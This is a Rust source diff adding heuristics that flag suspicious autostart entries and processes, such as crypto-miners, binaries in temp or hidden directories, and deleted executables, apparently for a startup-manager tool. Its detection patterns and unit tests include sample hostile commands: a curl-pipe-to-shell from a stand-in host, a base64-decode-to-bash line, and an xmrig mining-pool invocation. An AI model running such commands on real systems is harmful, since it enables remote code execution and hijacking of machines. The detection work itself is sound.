@@ -0,0 +1,238 @@
+//! Heuristics for suspicious persistence: crypto-miners and abandoned or
+//! dropped daemons in autostart entries and long-running processes.
+//!
+//! These are hints for review, not malware detection; any single reason is
+//! enough to flag an entry so users look at it.
+
+use serde::{Deserialize, Serialize};
+use specta::Type;
+use std::path::Path;
+use sysinfo::System;
+
+/// `StartupProgram::impact` value for flagged entries
+pub const SUSPICIOUS_IMPACT: &str = "suspicious";
+
+const TEMP_DIRS: &[&str] = &["/tmp/", "/var/tmp/", "/dev/shm/"];
+
+const MINER_NAMES: &[&str] = &[
+    "xmrig", "xmr-stak", "minerd", "cpuminer", "ethminer", "nbminer", "t-rex", "lolminer", "phoenixminer",
+    "kdevtmpfsi", "kinsing", "nanominer", "gminer", "srbminer",
+];
+
+/// Hidden top-level home directories where toolchains and apps legitimately keep binaries
+const EXPECTED_HIDDEN_DIRS: &[&str] = &[
+    ".local", ".config", ".cache", ".cargo", ".rustup", ".nvm", ".npm", ".pyenv", ".sdkman", ".deno", ".bun",
+    ".volta", ".dotnet", ".vscode", ".vscode-server", ".cursor-server", ".mozilla", ".steam", ".var",
+];
+
+/// Directories under ~/.local where user-installed binaries are expected
+const EXPECTED_LOCAL_DIRS: &[&str] = &[".local/bin/", ".local/share/flatpak/", ".local/share/Steam/", ".local/share/JetBrains/"];
+
+/// A process using this much of one core...
+const HIGH_CPU_PERCENT: f32 = 50.0;
+/// ...while everything else uses less than this share of the machine counts as "high CPU at idle"
+const IDLE_SYSTEM_PERCENT: f32 = 10.0;
+
+#[derive(Debug, Clone, Serialize, Deserialize, Type)]
+#[specta(export)]
+pub struct SuspiciousProcess {
+    pub pid: u32,
+    pub name: String,
+    pub exe: Option<String>,
+    pub cmdline: String,
+    pub cpu_usage: f32,
+    pub run_time_secs: u64,
+    pub reasons: Vec<String>,
+    pub startup_entry: Option<String>, // id of the startup program that launches it
+}
+
+fn tokens(cmd: &str) -> impl Iterator<Item = &str> {
+    cmd.split_whitespace().map(|t| t.trim_matches(|c| c == '"' || c == '\''))
+}
+
+fn file_name(path: &str) -> &str {
+    path.rsplit('/').next().unwrap_or(path)
+}
+
+/// First token of an Exec=/ExecStart= line, skipping systemd prefixes and `env`
+pub fn executable_of(cmd: &str) -> Option<&str> {
+    tokens(cmd)
+        .map(|t| t.trim_start_matches(['-', '@', '+', '!', ':']))
+        .find(|t| !t.is_empty() && *t != "env" && !t.contains('='))
+}
+
+fn path_reasons(path: &str, home: &Path, reasons: &mut Vec<String>) {
+    if TEMP_DIRS.iter().any(|dir| path.starts_with(dir)) {
+        reasons.push(format!("Runs from a temporary directory ({})", path));
+        return;
+    }
+    let Some(rel) = Path::new(path).strip_prefix(home).ok().map(|r| r.to_string_lossy().to_string()) else {
+        return;
+    };
+    let components: Vec<&str> = rel.split('/').collect();
+    let parents = &components[..components.len().saturating_sub(1)];
+    let hidden = parents
+        .iter()
+        .enumerate()
+        .any(|(depth, c)| c.starts_with('.') && !(depth == 0 && EXPECTED_HIDDEN_DIRS.contains(c)));
+    if hidden {
+        reasons.push(format!("Binary in a hidden directory ({})", path));
+    } else if rel.starts_with(".local/") && !EXPECTED_LOCAL_DIRS.iter().any(|d| rel.starts_with(d)) {
+        reasons.push(format!("Unknown binary in ~/.local ({})", path));
+    }
+}
+
+/// Reasons a command line looks like suspicious persistence
+pub fn command_reasons(cmd: &str, home: &Path) -> Vec<String> {
+    let mut reasons = Vec::new();
+    let lower = cmd.to_lowercase();
+
+    if let Some(exe) = executable_of(cmd) {
+        path_reasons(exe, home, &mut reasons);
+    }
+    // Scripts handed to an interpreter, e.g. `sh /tmp/x.sh`
+    if reasons.is_empty() {
+        if let Some(arg) = tokens(cmd).skip(1).find(|t| TEMP_DIRS.iter().any(|d| t.starts_with(d))) {
+            reasons.push(format!("Runs a file from a temporary directory ({})", arg));
+        }
+    }
+
+    if tokens(&lower).any(|t| MINER_NAMES.contains(&file_name(t))) {
+        reasons.push("Known cryptocurrency miner".to_string());
+    }
+    if lower.contains("stratum+tcp://") || lower.contains("stratum+ssl://") || lower.contains("--donate-level") {
+        reasons.push("Connects to a mining pool".to_string());
+    }
+    let fetches = lower.contains("curl ") || lower.contains("wget ");
+    let pipes_to_shell = ["| sh", "|sh", "| bash", "|bash"].iter().any(|p| lower.contains(p));
+    if fetches && pipes_to_shell {
+        reasons.push("Downloads and executes a remote script".to_string());
+    }
+    if lower.contains("base64 -d") || lower.contains("base64 --decode") {
+        reasons.push("Decodes an obfuscated payload".to_string());
+    }
+    reasons
+}
+
+/// `cpu_usage` is percent of one core, `system_usage` percent of the whole machine
+pub fn is_high_cpu_at_idle(cpu_usage: f32, system_usage: f32, cpu_count: usize) -> bool {
+    if cpu_usage < HIGH_CPU_PERCENT || cpu_count == 0 {
+        return false;
+    }
+    let others = (system_usage * cpu_count as f32 - cpu_usage).max(0.0) / cpu_count as f32;
+    others < IDLE_SYSTEM_PERCENT
+}
+
+/// Processes matching the heuristics. `startup_execs` maps startup program ids
+/// to their executables so flagged processes can be linked to the entry that starts them.
+pub fn find_suspicious_processes(home: &Path, startup_execs: &[(String, String)]) -> Vec<SuspiciousProcess> {
+    let mut sys = System::new();
+    sys.refresh_cpu_usage();
+    sys.refresh_processes(sysinfo::ProcessesToUpdate::All, true);
+    // CPU usage needs two samples
+    std::thread::sleep(sysinfo::MINIMUM_CPU_UPDATE_INTERVAL.max(std::time::Duration::from_millis(500)));
+    sys.refresh_cpu_usage();
+    sys.refresh_processes(sysinfo::ProcessesToUpdate::All, true);
+
+    let system_usage = sys.global_cpu_usage();
+    let cpu_count = sys.cpus().len();
+    let mut flagged = Vec::new();
+
+    for (pid, process) in sys.processes() {
+        // Threads show up as processes sharing the parent's command line
+        if process.thread_kind().is_some() {
+            continue;
+        }
+        let exe = process.exe().map(|p| p.to_string_lossy().to_string());
+        let cmdline = process.cmd().iter().map(|a| a.to_string_lossy()).collect::<Vec<_>>().join(" ");
+        let name = process.name().to_string_lossy().to_string();
+
+        let mut reasons = Vec::new();
+        if let Some(exe) = &exe {
+            if exe.ends_with(" (deleted)") {
+                reasons.push("Executable was deleted after it started".to_string());
+            }
+            path_reasons(exe.trim_end_matches(" (deleted)"), home, &mut reasons);
+        }
+        for reason in command_reasons(&cmdline, home) {
+            if !reasons.contains(&reason) {
+                reasons.push(reason);
+            }
+        }
+        if MINER_NAMES.contains(&name.to_lowercase().as_str()) && !reasons.iter().any(|r| r.contains("miner")) {
+            reasons.push("Known cryptocurrency miner".to_string());
+        }
+        if is_high_cpu_at_idle(process.cpu_usage(), system_usage, cpu_count) {
+            reasons.push(format!("High CPU usage ({:.0}%) while the system is otherwise idle", process.cpu_usage()));
+        }
+        if reasons.is_empty() {
+            continue;
+        }
+
+        let startup_entry = exe.as_deref().and_then(|exe| {
+            startup_execs
+                .iter()
+                .find(|(_, cmd)| cmd == exe || (!cmd.contains('/') && file_name(exe) == cmd))
+                .map(|(id, _)| id.clone())
+        });
+
+        flagged.push(SuspiciousProcess {
+            pid: pid.as_u32(),
+            name,
+            exe,
+            cmdline,
+            cpu_usage: process.cpu_usage(),
+            run_time_secs: process.run_time(),
+            reasons,
+            startup_entry,
+        });
+    }
+
+    flagged.sort_by(|a, b| b.reasons.len().cmp(&a.reasons.len()).then(b.cpu_usage.total_cmp(&a.cpu_usage)));
+    flagged
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_temp_dir_and_hidden_binaries() {
+        let home = Path::new("/home/u");
+        assert!(command_reasons("/tmp/.x/updater --quiet", home)[0].contains("temporary directory"));
+        assert!(command_reasons("sh /dev/shm/run.sh", home)[0].contains("temporary directory"));
+        assert!(command_reasons("/home/u/.cache/.sys/kworker", home)[0].contains("hidden directory"));
+        assert!(command_reasons("/home/u/.local/share/.dbus/helper", home)[0].contains("hidden directory"));
+        assert!(command_reasons("/home/u/.local/lib/daemon", home)[0].contains("~/.local"));
+        assert!(command_reasons("/home/u/.local/bin/syncthing -no-browser", home).is_empty());
+        assert!(command_reasons("/home/u/.cargo/bin/cargo-watch", home).is_empty());
+        assert!(command_reasons("/usr/bin/nextcloud --background", home).is_empty());
+    }
+
+    #[test]
+    fn test_miner_and_dropper_patterns() {
+        let home = Path::new("/home/u");
+        let reasons = command_reasons("/opt/x/xmrig -o stratum+tcp://pool.example:3333 --donate-level 1", home);
+        assert!(reasons.contains(&"Known cryptocurrency miner".to_string()));
+        assert!(reasons.contains(&"Connects to a mining pool".to_string()));
+
+        let reasons = command_reasons("sh -c \"curl -fsSL http://x.example/i | sh\"", home);
+        assert!(reasons.contains(&"Downloads and executes a remote script".to_string()));
+        assert_eq!(command_reasons("bash -c 'echo aGk= | base64 -d | bash'", home).len(), 1);
+    }
+
+    #[test]
+    fn test_executable_of_skips_prefixes() {
+        assert_eq!(executable_of("-/usr/bin/foo --bar"), Some("/usr/bin/foo"));
+        assert_eq!(executable_of("env FOO=1 /usr/bin/foo"), Some("/usr/bin/foo"));
+    }
+
+    #[test]
+    fn test_high_cpu_at_idle() {
+        // 4 cores, one process at 100% of a core, machine at 27% overall
+        assert!(is_high_cpu_at_idle(100.0, 27.0, 4));
+        // Same process, but the rest of the machine is busy
+        assert!(!is_high_cpu_at_idle(100.0, 80.0, 4));
+        assert!(!is_high_cpu_at_idle(20.0, 5.0, 4));
+    }
+}